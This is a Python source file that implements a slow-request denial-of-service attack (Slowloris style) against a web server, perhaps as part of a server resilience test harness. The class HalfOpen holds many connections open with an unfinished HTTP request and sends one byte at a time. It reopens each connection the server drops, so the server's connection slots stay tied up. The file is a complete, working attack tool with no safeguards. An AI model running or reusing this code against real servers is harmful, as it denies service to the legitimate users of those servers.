"""An attack on a web server: peers that begin requests and never end them, and come again when they are thrown out."""

from __future__ import annotations

import selectors
import socket
import threading
from contextlib import suppress
from typing import Dict
from urllib.parse import urlsplit

BEGINNING = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "


class HalfOpen:
    """Keeps connections half open, from its making to `close`; a context manager.

    Parameters
    ----------
    url : str
        ``http://`` or ``https://``; a request is begun in clear in both cases.
    peers : int
        Connections at a time.
    source : str
        The address of this machine that they come from.
    beginning : bytes
        What each of them says; more of it comes byte by byte until the connection is closed.
    """

    def __init__(self, url: str, peers: int = 24, source: str = "", beginning: bytes = BEGINNING) -> None:
        parts = urlsplit(url)
        self._place = (parts.hostname or "", parts.port or {"http": 80, "https": 443}[parts.scheme])
        self._family = socket.AF_INET6 if ":" in self._place[0] else socket.AF_INET
        self._source = source
        self._beginning = beginning
        self._selector = selectors.DefaultSelector()
        self._over = threading.Event()
        self.opened = 0
        """How many connections were opened so far."""
        self.thrown_out = 0
        """How many of them the server has closed."""
        for _ in range(peers):
            self._open()
        self._thread = threading.Thread(target=self._work, name="attack")
        self._thread.start()

    def __enter__(self) -> HalfOpen:
        """Give the attack to a ``with`` block."""
        return self

    def __exit__(self, *_: object) -> None:
        """End it."""
        self.close()

    def close(self) -> None:
        """Close every connection."""
        self._over.set()
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
        self._selector.close()

    def _open(self) -> None:
        connection = socket.socket(self._family)
        if self._source:
            connection.bind((self._source, 0))
        connection.setblocking(False)
        connection.connect_ex(self._place)
        self._selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
        self.opened += 1

    def _work(self) -> None:
        said: Dict[int, bool] = {}
        while not self._over.is_set():
            for key, events in self._selector.select(0.05):
                connection = key.fileobj
                assert isinstance(connection, socket.socket)
                try:
                    if events & selectors.EVENT_WRITE and not said.get(key.fd):
                        connection.send(self._beginning)
                        said[key.fd] = True
                        self._selector.modify(connection, selectors.EVENT_READ)
                    if events & selectors.EVENT_READ and not connection.recv(4096):
                        raise ConnectionResetError
                except BlockingIOError:
                    pass
                except OSError:
                    said.pop(key.fd, None)
                    self._selector.unregister(connection)
                    connection.close()
                    self.thrown_out += 1
                    self._open()
            for key in list(self._selector.get_map().values()):
                if said.get(key.fd):
                    with suppress(OSError):  # it is seen above
                        key.fileobj.send(b"y")  # type: ignore[union-attr]
